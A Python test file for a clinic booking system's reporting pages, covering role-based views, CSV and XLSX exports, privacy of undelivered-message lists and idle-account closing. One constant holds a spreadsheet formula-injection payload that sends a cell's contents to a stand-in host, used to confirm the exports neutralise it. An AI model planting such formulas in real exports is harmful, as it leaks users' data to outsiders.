"""The figures through their pages: what a manager, the city and an auditor see, and what they take away."""

import csv
import io
import zipfile
from xml.etree import ElementTree as ET

import httpx
import pytest

from booking import clock as booking_clock
from booking.access.kinds import Role
from booking.db import Database
from scheduler.jobs import disable_idle
from tests import figures, pages, queues, seeds, staff
from tests.pages import Page
from tests.queues import Clock, Morning
from tests.seeds import FACILITY

pytestmark = pytest.mark.anyio
BASE = f"/desk/{FACILITY}/figures"
EVIL = '=HYPERLINK("http://xau.example/?"&A1,"Khám")'


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    made = queues.new_clock()
    monkeypatch.setattr(booking_clock, "utc_now", made.now)
    return made


@pytest.fixture
async def morning(db: Database, client: httpx.AsyncClient, clock: Clock) -> Morning:
    made = await queues.make(db, client, clock)
    await figures.replay(made)
    return made


async def _sign_in(client: httpx.AsyncClient, db: Database, role: Role, *facilities: str) -> None:
    name = f"{role.value.replace('_', '-')}.mau"
    await staff.add(db, name, role, facilities)
    client.cookies.set("desk", await staff.sign_in(db, name) or "")


async def _page(client: httpx.AsyncClient, path: str, status: int = 200) -> Page:
    answer = await client.get(path)
    assert answer.status_code == status, answer.text
    return pages.read(answer)


async def test_a_manager_sees_the_morning(client: httpx.AsyncClient, db: Database, morning: Morning) -> None:
    await _sign_in(client, db, Role.MANAGER, FACILITY)
    answer = await client.get(BASE)
    page = pages.read(answer)
    for words in (
        "7 đã đặt", "5 đến theo lịch hẹn", "1 không đến · 17 % n = 6", "1 chưa ghi nhận đến hay không",
        "2 người đến trực tiếp · 1 ca cấp cứu", "1 đang chờ, chưa được gọi", "1 bỏ về trước khi được gọi",
        "5 chỗ không ai đặt",
    ):  # fmt: skip
        number, said = words.split(" ", 1)
        assert said in page.text.replace("\xa0", " "), said
        assert f" {number} " in page.text
    assert "20 phút n = 5" in page.text.replace("\xa0", " ")
    assert answer.text.count('role="img"') == 2  # one day has no chart of weekdays
    month = await client.get(f"{BASE}?days=own&from={morning.world.day}&to={morning.world.day.replace(year=2999)}")
    assert month.status_code == 422
    assert "to-error" in pages.read(month).by_id


async def test_a_week_has_weekdays_and_a_table_of_heat(
    client: httpx.AsyncClient, db: Database, morning: Morning
) -> None:
    await _sign_in(client, db, Role.MANAGER, FACILITY)
    answer = await client.get(f"{BASE}?days=week")
    assert answer.text.count('role="img"') == 3
    assert '<td class="h5">5</td>' in answer.text  # five came in the hour of seven: four booked, one without
    assert morning.world.day.strftime("%d/%m/%Y") in pages.read(answer).text


@pytest.mark.usefixtures("morning")
async def test_no_data_is_said_and_is_not_nought_per_cent(client: httpx.AsyncClient, db: Database) -> None:
    await _sign_in(client, db, Role.MANAGER, FACILITY)
    page = await _page(client, f"{BASE}?days=own&from=2020-01-01&to=2020-01-31")
    assert "Những ngày này chưa có số liệu" in page.text
    assert "%" not in page.text
    await seeds.run(db, "UPDATE appointment SET state = 'booked' WHERE state IN ('arrived', 'fulfilled', 'noshow')")
    await seeds.run(db, "TRUNCATE queue_ticket CASCADE")
    page = await _page(client, BASE)
    assert "chưa gọi ai" in page.text
    assert "không đến · " not in page.text


async def test_tables_are_taken_away_and_run_nothing(client: httpx.AsyncClient, db: Database, morning: Morning) -> None:
    await seeds.run(db, "UPDATE service SET name = :evil, name_en = :evil WHERE id = :id", evil=EVIL,
                    id=morning.world.service_id)  # fmt: skip
    await _sign_in(client, db, Role.MANAGER, FACILITY)
    answer = await client.get(f"{BASE}/tables/service.csv")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith(f'attachment; filename="{FACILITY}-')
    head, row = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    found = dict(zip(head, row, strict=True))
    assert found["Dịch vụ"] == f"'{EVIL}"
    assert (found["Đã đặt"], found["Thời gian chờ, phân vị 90, phút"]) == ("7", "89.2")
    assert found["Tỷ lệ không đến (phần trăm)"] == "16.7"
    assert found["Chỗ không ai đặt"] == "5"  # and not "empty": whoever came without booking may have been seen then
    book = await client.get(f"{BASE}/all.xlsx")
    with zipfile.ZipFile(io.BytesIO(book.content)) as file:
        sheets = [ET.fromstring(file.read(name)) for name in file.namelist() if "worksheets/sheet" in name]
    assert len(sheets) == 6
    assert not any(one.tag.endswith("}f") for sheet in sheets for one in sheet.iter())
    assert any(EVIL in "".join(sheet.itertext()) for sheet in sheets)
    assert (await client.get(f"{BASE}/tables/everything.csv")).status_code == 404
    assert (await client.get(f"{BASE}/all.xlsx?days=own&from=x&to=y")).status_code == 422


@pytest.mark.usefixtures("morning")
async def test_the_city_sees_all_and_a_manager_her_own(client: httpx.AsyncClient, db: Database) -> None:
    await seeds.run(
        db,
        "INSERT INTO facility (code, kind, state, name, name_en, sms_name, confirmed, search_key, sort_key, training)"
        " SELECT code, 'health_station', state::facility_state, name, name, 'TYT', false, '', code, training"
        " FROM (VALUES ('HAI', 'open', 'Trạm Hai Mẫu', false), ('TAP', 'not_yet_open', 'Trạm Tập Mẫu', true))"
        " AS made (code, state, name, training)",
    )
    await _sign_in(client, db, Role.CITY_ADMIN)
    page = await _page(client, "/desk/figures")
    assert "Trạm Y tế Mẫu" in page.text
    assert "Trạm Hai Mẫu" in page.text
    assert "Trạm Tập Mẫu" not in page.text  # a place to practise
    assert "20 phút n = 5" in page.text.replace("\xa0", " ")
    answer = await client.get("/desk/figures/all.csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert {row[0] for row in rows[1:]} == {FACILITY, "HAI", ""}
    assert (await client.get("/desk/figures/all.xlsx")).content.startswith(b"PK")
    await _sign_in(client, db, Role.MANAGER, "HAI")
    page = await _page(client, "/desk/figures")
    assert "Trạm Y tế Mẫu" not in page.text
    assert (await client.get(BASE)).status_code == 404


async def test_what_did_not_arrive_leads_on_without_naming_anybody(
    client: httpx.AsyncClient, db: Database, morning: Morning
) -> None:
    await seeds.run(
        db, "UPDATE message SET state = 'undelivered', error_code = 104, fault = 'phone', due_at = :at"
        " WHERE kind = 'booked' AND subject_id = (SELECT public_id FROM appointment WHERE state = 'noshow')",
        at=morning.clock.opens,
    )  # fmt: skip
    await _sign_in(client, db, Role.MANAGER, FACILITY)
    code = await seeds.value(db, "SELECT code FROM appointment WHERE state = 'noshow'")
    page = await _page(client, f"{BASE}/undelivered")
    assert page.link(f"/appointments/{code}")
    assert "số không liên lạc được" in page.text
    assert "(104)" in page.text
    assert "0903" not in page.text
    assert not any(name in page.text for name in ("Trần", "Lê", "Phạm"))
    assert await seeds.value(db, "SELECT count(*) FROM audit_event WHERE action = 'patient.read'") == 0
    await _sign_in(client, db, Role.AUDITOR)
    assert not any(code in href for href, _ in (await _page(client, f"{BASE}/undelivered")).links)


async def test_idle_accounts_are_closed_by_the_scheduler(db: Database, clock: Clock) -> None:
    await staff.add(db, "admin.mau", Role.CITY_ADMIN)
    await staff.add(db, "auditor.mau", Role.AUDITOR)
    token = await staff.sign_in(db, "auditor.mau")
    assert await disable_idle.run(db) == 0
    clock.set(45 * 24 * 60)
    await seeds.run(db, "UPDATE staff SET seen_at = :now WHERE username = 'admin.mau'", now=clock.moment)
    assert await disable_idle.run(db) == 1
    assert await disable_idle.run(db) == 0
    assert await staff.desk_of(db, token) is None
    told = await seeds.rows(db, "SELECT actor_id, facts FROM audit_event WHERE action = 'staff.disable'")
    assert told == [{"actor_id": "disable_idle", "facts": {"reason": "idle"}}]
